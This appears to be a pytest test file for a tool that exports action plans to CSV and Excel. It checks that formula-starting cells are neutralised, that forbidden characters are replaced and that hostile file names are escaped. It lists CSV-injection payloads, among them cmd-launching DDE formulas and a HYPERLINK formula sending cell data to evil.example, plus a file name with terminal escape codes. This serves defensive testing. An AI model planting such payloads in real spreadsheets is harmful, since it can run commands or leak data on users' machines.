"""Safe output: CSV cells a spreadsheet would run as formulas are neutralised (OWASP), and
every .xlsx cell holds only what XML 1.0 and Excel allow, with a warning for each change.
Every output is opened back with csv or openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.workbook.workbook import Workbook

from actionplan.cli import cli
from actionplan.compare import diff_plans
from actionplan.export import render_diff, render_plans
from actionplan.export.safety import MAX_CELL, XML_FORBIDDEN, csv_cell
from actionplan.export.tabular import diff_to_csv, plans_to_csv, updates_to_csv
from actionplan.models import Action, DocumentInfo, Due, LegendEntry, Plan, Provenance, UpdateEntry

# OWASP's examples and the classic payloads, each as the first character of a cell.
PAYLOADS = [
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "  =1+2",
    "- done, see minutes",
]
# Cells a spreadsheet reads as a value with nothing to run: left as written.
VALUES = ["-2.5", "+44", "-1,000", "-2", "-", "2018-06-14", "12/01/18", "1.10", "A=B", ""]
FORBIDDEN = "\x00\x01\x08\x0b\x0c\x0e\x1f\ufffe\uffff\ud800\udfff"


def plan(action: str = "Audit", update: str = "Held.", *, owner: str = "Jane Hoey") -> Plan:
    doc = DocumentInfo(
        source="safety.docx",
        sha256="0" * 64,
        format="docx",
        title="Safety plan",
        review_date=dt.date(2018, 6, 14),
        version="V2",
        rag_legend=[LegendEntry(colour="Green", label="On\x0btrack\uffff", rgb="00B050")],
    )
    a = Action(
        ref="1",
        action=action,
        owners=[owner],
        owner_text=owner,
        due=Due(text="12/01/18", kind="date", date=dt.date(2018, 1, 12)),
        updates=[UpdateEntry(date=dt.date(2018, 6, 1), date_text="01/06/2018", text=update)],
        rag="Green",
        provenance=Provenance(row=1),
    )
    return Plan(document=doc, actions=[a])


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def reopen(data: str | bytes) -> Workbook:
    assert isinstance(data, bytes)
    return load_workbook(io.BytesIO(data), rich_text=True)


def texts(wb: Workbook) -> list[str]:
    return [str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_that_would_start_a_formula_gets_a_quote_first(payload: str) -> None:
    (row,) = read_csv(plans_to_csv([plan(payload, payload, owner=payload)]))
    assert row["action"] == row["owners"] == row["latest_update"] == "'" + payload
    (entry,) = read_csv(updates_to_csv([plan(update=payload)]))
    assert entry["text"] == "'" + payload


@pytest.mark.parametrize("value", VALUES)
def test_a_plain_number_a_date_or_a_lone_dash_stays_as_written(value: str) -> None:
    assert csv_cell(value) == value
    (row,) = read_csv(plans_to_csv([plan(value)]))
    assert row["action"] == value


@given(st.text())
def test_no_csv_cell_starts_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    cell = csv_cell(text)
    assert cell in (text, "'" + text)
    if cell == text and text.lstrip(" \u00a0")[:1] in set("=+-@\t\r\n"):
        assert text.strip() == "-" or re.fullmatch(r"[+-][\d.,]+", text.strip())


def test_a_cell_holding_a_separator_is_quoted_so_no_part_starts_a_cell() -> None:
    # A semicolon is the list separator of many locales: unquoted, "x;=1+2" opens a cell
    # there with "=1+2". OWASP's own two examples come back whole.
    cells = ["x;=1+2", '=1+2";=1+2', "=1+2'\" ;,=1+2", ",=1+2", "a\tb"]
    text = plans_to_csv([plan(c) for c in cells], bom=False)
    assert '"x;=1+2"' in text and '"a\tb"' in text
    assert [r["action"] for r in read_csv(text)] == [
        "x;=1+2",
        "'=1+2\";=1+2",
        "'=1+2'\" ;,=1+2",
        ",=1+2",
        "a\tb",
    ]


def test_the_diff_csv_neutralises_its_cells_too() -> None:
    old = plan("@SUM(A1) audit the sample of twenty cases")
    new = plan("=SUM(A1) audit the sample of twenty cases", "+1 more, see =A1")
    rows = read_csv(diff_to_csv(diff_plans(old, new)))
    assert {r["action"] for r in rows} == {"'=SUM(A1) audit the sample of twenty cases"}
    field = next(r for r in rows if r["kind"] == "field")
    assert (field["old"], field["new"]) == (
        "'@SUM(A1) audit the sample of twenty cases",
        "'=SUM(A1) audit the sample of twenty cases",
    )
    entry = next(r for r in rows if r["kind"] == "edited_update")  # the same date: rewritten
    assert (entry["old"], entry["new"]) == ("Held.", "'+1 more, see =A1")


def test_raw_csv_writes_every_cell_as_it_is_and_says_nothing() -> None:
    notes: list[str] = []
    p = plan(PAYLOADS[0], PAYLOADS[3])
    text = render_plans([p], "csv", raw_csv=True, notes=notes)
    assert isinstance(text, str)
    (row,) = read_csv(text)
    assert (row["action"], row["latest_update"], notes) == (PAYLOADS[0], PAYLOADS[3], [])
    assert plans_to_csv([p], raw=True) == text


def test_a_render_counts_the_neutralised_cells_in_one_warning() -> None:
    notes: list[str] = []
    render_plans([plan(PAYLOADS[0], PAYLOADS[1])], "csv", notes=notes)
    # action and latest_update; update_text starts with the entry's date.
    assert notes == [
        "2 CSV cell(s) began with =, +, -, @, a tab or a line break; a ' is put before each "
        "so that a spreadsheet shows it as text, never runs it (--raw-csv writes them as "
        "they are)"
    ]


@pytest.fixture
def hostile_txt(tmp_path: Path) -> Path:
    path = tmp_path / "safety-plan.txt"
    lines = [
        "",
        "Safety Action Plan Review- 14/06/2018 – V2",
        "",
        "\tAction\tPerson Responsible\tBy When\tUpdate\tRAG",
        '1\t=HYPERLINK("http://evil.example/"&A1,"Click")\tJane Hoey\t12/01/18\t'
        "15/02/2018: Completed\t",
        "2\tAudit a sample \uffff of cases\tCath Thomas\t09/02/18\t15/02/2018: -2+3+cmd|x\t",
    ]
    path.write_text("\n".join(lines) + "\n", "utf-8")
    return path


def test_extract_and_diff_neutralise_csv_unless_raw_csv(hostile_txt: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(cli, ["extract", str(hostile_txt), "-f", "csv"])
    assert result.exit_code == 0
    rows = read_csv(result.stdout)
    assert rows[0]["action"] == '\'=HYPERLINK("http://evil.example/"&A1,"Click")'
    assert rows[1]["latest_update"] == "'-2+3+cmd|x"
    assert "warning: stdout: 2 CSV cell(s) began with =" in result.stderr
    raw = runner.invoke(cli, ["extract", str(hostile_txt), "-f", "csv-updates", "--raw-csv"])
    assert [r["text"] for r in read_csv(raw.stdout)] == ["Completed", "-2+3+cmd|x"]
    assert "CSV cell(s)" not in raw.stderr
    args = ["diff", str(hostile_txt), str(hostile_txt), "-f", "csv"]
    actions = {r["action"] for r in read_csv(runner.invoke(cli, args).stdout)}
    assert '\'=HYPERLINK("http://evil.example/"&A1,"Click")' in actions
    raw_actions = {r["action"] for r in read_csv(runner.invoke(cli, [*args, "--raw-csv"]).stdout)}
    assert '=HYPERLINK("http://evil.example/"&A1,"Click")' in raw_actions


def test_xlsx_replaces_every_character_xml_forbids_with_a_warning() -> None:
    notes: list[str] = []
    p = plan(f"Audit{FORBIDDEN}end", f"Held{FORBIDDEN}", owner="Jane\x0bHoey")
    wb = reopen(render_plans([p], "xlsx", notes=notes))
    assert not any(XML_FORBIDDEN.search(t) for t in texts(wb))
    ws = wb["Actions"]
    (row,) = [r for r in ws.iter_rows(min_row=2, values_only=True)]
    head = [c.value for c in ws[1]]
    assert row[head.index("Action")] == "Audit" + "\ufffd" * len(FORBIDDEN) + "end"
    assert row[head.index("Owners")] == "Jane\ufffdHoey"
    # Action, Owners, Latest update (Actions); Update (Updates); Legend (Document).
    assert notes == ["5 cell(s) held characters Excel cannot store; replaced with U+FFFD"]


def test_xlsx_word_diffs_are_rich_text_with_no_forbidden_character() -> None:
    old = plan("Audit\x0bthe sample of\ufffe twenty cases")
    new = plan("Audit the sample of\x01 thirty cases\uffff")
    notes: list[str] = []
    wb = reopen(render_diff(diff_plans(old, new), "xlsx", notes=notes))
    assert not any(XML_FORBIDDEN.search(t) for t in texts(wb))
    ws = wb["Changes"]
    headers = [c.value for c in ws[1]]
    row = next(ws.iter_rows(min_row=2))
    wording = row[headers.index("Old wording")].value, row[headers.index("New wording")].value
    assert all(isinstance(w, CellRichText) for w in wording)
    struck = [b.text for b in wording[0] if isinstance(b, TextBlock)]
    inserted = [b.text for b in wording[1] if isinstance(b, TextBlock)]
    assert "\ufffd" in "".join(struck) and "\ufffd" in "".join(inserted)
    # The matrix heads carry the legend's label: its cells are replaced too.
    assert "On\ufffdtrack\ufffd" in " ".join(texts(wb))
    assert len(notes) == 1 and notes[0].endswith("replaced with U+FFFD")


def test_xlsx_warns_when_a_cell_is_cut_to_excels_limit() -> None:
    notes: list[str] = []
    long = "word " * 10_000
    wb = reopen(render_plans([plan(update=long)], "xlsx", notes=notes))
    column = [c.value for c in wb["Updates"][1]].index("Update")
    (update,) = [r[column] for r in wb["Updates"].iter_rows(min_row=2, values_only=True)]
    assert len(update) == MAX_CELL and update.endswith(" …[truncated]")
    assert update.startswith(long[:1000])
    # The Updates sheet's cell and the Actions sheet's latest update (the other note is
    # the legend's vertical tab).
    assert (
        "2 cell(s) were longer than Excel's 32,767 characters; cut, ending '…[truncated]'" in notes
    )


def test_a_long_word_diff_is_cut_to_plain_text_within_the_limit() -> None:
    old, new = plan("a " * 20_000), plan("b " * 20_000)
    notes: list[str] = []
    wb = reopen(render_diff(diff_plans(old, new), "xlsx", notes=notes))
    ws = wb["Changes"]
    headers = [c.value for c in ws[1]]
    row = next(ws.iter_rows(min_row=2))
    wording = row[headers.index("New wording")].value
    assert isinstance(wording, str) and len(wording) == MAX_CELL
    assert any("32,767" in n for n in notes)


def test_extract_prints_the_xlsx_warning_with_the_file_name(
    hostile_txt: Path, tmp_path: Path
) -> None:
    out = tmp_path / "plan.xlsx"
    result = CliRunner().invoke(cli, ["extract", str(hostile_txt), "-f", "xlsx", "-o", str(out)])
    assert result.exit_code == 0
    assert (
        f"warning: {out}: 1 cell(s) held characters Excel cannot store; replaced with U+FFFD"
        in result.stderr
    )
    assert "Audit a sample \ufffd of cases" in texts(load_workbook(out))


def test_a_file_name_with_a_newline_or_escape_reaches_the_terminal_escaped(tmp_path: Path) -> None:
    """A file name is one line in every message: a newline, a terminal escape, a bidi
    override or undecodable bytes are written as escapes."""
    from click.testing import CliRunner

    from actionplan.cli import cli
    from actionplan.errors import CorruptDocument, displayed

    name = "plan\n\x1b[2J\u202eV8.docx"
    bad = tmp_path / name
    bad.write_bytes(b"PK\x03\x04 not a zip")
    result = CliRunner().invoke(cli, ["extract", str(bad)])
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 1
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    assert lines[0].startswith("error: ") and "plan\\n\\x1b[2J\\u202eV8.docx" in lines[0]

    assert str(CorruptDocument(b"V8\xff.pdf".decode(errors="surrogateescape"), "damaged")) == (
        "V8\\udcff.pdf: damaged"
    )
    assert displayed("Café – V8 (2024).docx") == "Café – V8 (2024).docx"  # the rest untouched
    assert displayed(displayed(name)) == displayed(name)
